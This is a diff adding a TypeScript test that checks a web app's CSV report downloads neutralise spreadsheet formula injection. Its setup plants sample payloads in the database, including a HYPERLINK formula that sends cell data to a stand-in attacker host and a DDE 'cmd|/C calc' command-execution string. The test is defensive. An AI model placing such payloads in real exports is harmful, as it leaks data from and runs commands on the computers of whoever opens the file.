@@ -1,0 +1,79 @@
+/**
+ * Issue 11, finding 4: a goal title, milestone, report text or activity type starting with `=`
+ * (or `+`, `-`, `@`) went into the CSV downloads as is, where a spreadsheet runs it as a formula.
+ * Every CSV download now goes through the one writer, which neutralises such a cell with a
+ * leading apostrophe; numbers (also negative ones) stay numbers.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { FastifyInstance } from 'fastify';
+import { buildServer } from '../src/http/server.ts';
+import { REPORT_KINDS } from '../src/reports/project-reports.ts';
+import { openTestDb, testDeps, type TestDb } from './helpers/db.ts';
+import { loginAs } from './helpers/http.ts';
+
+/** The fields of a `;`-separated CSV text (quotes undone). */
+function fields(csv: string): string[] {
+  const out: string[] = [];
+  let cur = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const ch = csv[i];
+    if (quoted) {
+      if (ch === '"' && csv[i + 1] === '"') { cur += '"'; i++; } else if (ch === '"') quoted = false; else cur += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ';' || ch === '\n') { out.push(cur.replace(/\r$/, '')); cur = ''; } else cur += ch;
+  }
+  out.push(cur);
+  return out.map((f) => f.replace(/^\uFEFF/, ''));
+}
+
+/** A field a spreadsheet would read as a formula. */
+const formula = (f: string) => /^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(f);
+
+describe('CSV downloads and formulas', () => {
+  let t: TestDb;
+  let app: FastifyInstance;
+  const HYPERLINK = '=HYPERLINK("http://angriber.invalid/?d="&A1;"Klik")';
+  beforeAll(async () => {
+    t = await openTestDb('pglite');
+    app = await buildServer(testDeps(t.db));
+    await app.ready();
+    const pid = (await t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
+    await t.db.query(`UPDATE project_goal SET title = $2 WHERE id = (SELECT min(id) FROM project_goal WHERE project_id = $1)`, [pid, HYPERLINK]);
+    await t.db.query(`UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`, [pid]);
+    await t.db.query(`INSERT INTO project_report_text (project_id, section, body) VALUES ($1, 'aktiviteter', '+1+cmd|'' /C calc''!A0')
+      ON CONFLICT (project_id, section) DO UPDATE SET body = excluded.body`, [pid]);
+    await t.db.query(`UPDATE project_activity_type SET name = '-2+3+cmd' WHERE project_id = $1`, [pid]);
+  });
+  afterAll(async () => {
+    await app?.close();
+    await t?.cleanup();
+  });
+
+  it('neutralises every formula cell in every report CSV, and keeps negative numbers', async () => {
+    const s = await loginAs(app, 'projektleder.aalborg');
+    const pid = (await t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
+    const seen = new Set<string>();
+    for (const kind of REPORT_KINDS) {
+      const res = await s.get(`/styring/rapporter/${kind}.csv?projekt=${pid}`);
+      expect(res.statusCode, kind).toBe(200);
+      const f = fields(res.body);
+      expect(f.filter(formula), kind).toEqual([]);
+      for (const x of f) if (x.startsWith("'")) seen.add(x);
+    }
+    // The texts are there, neutralised (so the test proves it looked at them).
+    expect(seen).toContain(`'${HYPERLINK}`);
+    expect(seen).toContain("'+1+cmd|' /C calc'!A0");
+  });
+
+  it('neutralises the national report and the microdata download too', async () => {
+    const s = await loginAs(app, 'analytiker.siri');
+    for (const url of ['/nationalt/rapport.csv', '/nationalt/mikrodata.csv']) {
+      const res = await s.get(url);
+      expect(res.statusCode, url).toBe(200);
+      const f = fields(res.body);
+      expect(f.length, url).toBeGreaterThan(20);
+      expect(f.filter(formula), url).toEqual([]);
+    }
+  });
+});
